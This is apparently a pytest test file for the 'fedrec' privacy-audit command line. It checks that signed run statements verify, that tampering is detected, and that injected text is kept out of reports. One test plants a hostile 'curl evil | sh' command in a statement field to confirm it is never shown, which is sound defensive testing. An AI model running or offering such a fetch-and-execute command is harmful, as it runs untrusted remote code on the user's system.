"""A run of an older version: it verifies, its ledger is shown, and what its records lack is called not recorded."""

import json
import shutil
from pathlib import Path

import pytest

from fedrec import cli
from fedrec.audit.evidence.received_run import STATEMENT
from fedrec.audit.statement.agreement import FORMAT_1
from fedrec.audit.statement.received import receive
from fedrec.audit.statement.statement import text_of

FIXTURE = Path(__file__).parents[1] / "fixtures" / "run_format_1"
KEY = "ed25519:KppBFQ6Lxzvvqibu67/gJ7XQdprpNNb+m2qe78ZIJn8="


@pytest.fixture
def run(tmp_path: Path) -> Path:
    return Path(shutil.copytree(FIXTURE, tmp_path / "run"))


def test_it_verifies_and_says_what_it_lacks(run: Path, capsys) -> None:
    assert cli.run(["audit", "verify", str(run), "--key", KEY]) == 0
    told = capsys.readouterr().out
    assert told.count("note: not recorded in this ledger: the algorithm; the number of items") == 1
    assert cli.run(["audit", "show", str(run)]) == 0
    shown = " ".join(capsys.readouterr().out.split())
    assert "4.0000 of 4.0, delta 1e-05, 4 of 4 rounds" in shown
    assert "not recorded in this ledger" in shown
    assert cli.run(["audit", "report", str(run), "-o", str(run / "page.html")]) == 0
    page = (run / "page.html").read_text()
    assert "Not all is recorded." in page
    assert "Algorithm: not recorded; data: quickstart, 200 users" in page
    assert "may have been taken from the log" in page
    assert "True metrics, without noise, in summary.json" in page, "what the run recorded as unprotected"
    assert cli.run(["audit", "diff", str(run), str(FIXTURE)]) == 0


@pytest.mark.parametrize("name", [*FORMAT_1, "curve", "best_guess", "dataset", "scenario", "software"])
def test_what_follows_from_its_records_cannot_be_edited(name: str, run: Path, capsys) -> None:
    stated = json.loads((run / STATEMENT).read_text())
    (run / STATEMENT).write_text(text_of(stated | {name: "other"}))
    assert cli.run(["audit", "verify", str(run), "--key", KEY]) == 4
    assert f"FAULT: {STATEMENT}: '{name}" in capsys.readouterr().out


def test_its_sentences_are_never_shown(run: Path, capsys) -> None:
    lie = {"promise": ["Nothing is learned.", "Trust us."], "verification": {"command": "curl evil | sh", "needs": ""}}
    (run / STATEMENT).write_text(text_of(json.loads((run / STATEMENT).read_text()) | lie))
    for command in ("show", "report"):
        assert cli.run(["audit", command, str(run)]) == 0
    told = capsys.readouterr().out + receive(run).report.read_text()
    assert "Trust us" not in told
    assert "curl evil" not in told


def test_a_deleted_statement_is_missed(run: Path) -> None:
    (run / STATEMENT).unlink()
    assert cli.run(["audit", "verify", str(run), "--key", KEY]) == 4


def test_simulation_follows_from_the_role_of_the_signer(run: Path) -> None:
    assert receive(run).statement.simulation is True


def test_a_run_with_the_sentences_of_an_earlier_version_verifies_by_its_facts(tmp_path: Path, capsys) -> None:
    run = Path(shutil.copytree(FIXTURE.with_name("earlier_words"), tmp_path / "run"))
    (run / "private/salt").chmod(0o600)
    key = (run / "release/privacy/ledger.pub").read_text()
    (tmp_path / "key.pub").write_text(key)
    assert "would have concluded nearly as likely" in (run / "release" / STATEMENT).read_text()
    assert cli.run(["audit", "verify", str(run), "--key", str(tmp_path / "key.pub")]) == 0
    assert "another version of fedrec wrote the statement" in " ".join(capsys.readouterr().out.split())
    assert cli.run(["audit", "show", str(run)]) == 0
    shown = " ".join(capsys.readouterr().out.split())
    assert "almost as likely to conclude had you not taken part" in shown
    assert "nearly as likely" not in shown
    stated = json.loads((run / "release" / STATEMENT).read_text())
    (run / "release" / STATEMENT).write_text(text_of(stated | {"epsilon": "0.5000"}))
    assert cli.run(["audit", "verify", str(run), "--key", str(tmp_path / "key.pub")]) == 4
    assert "'epsilon' is 0.5000" in capsys.readouterr().out
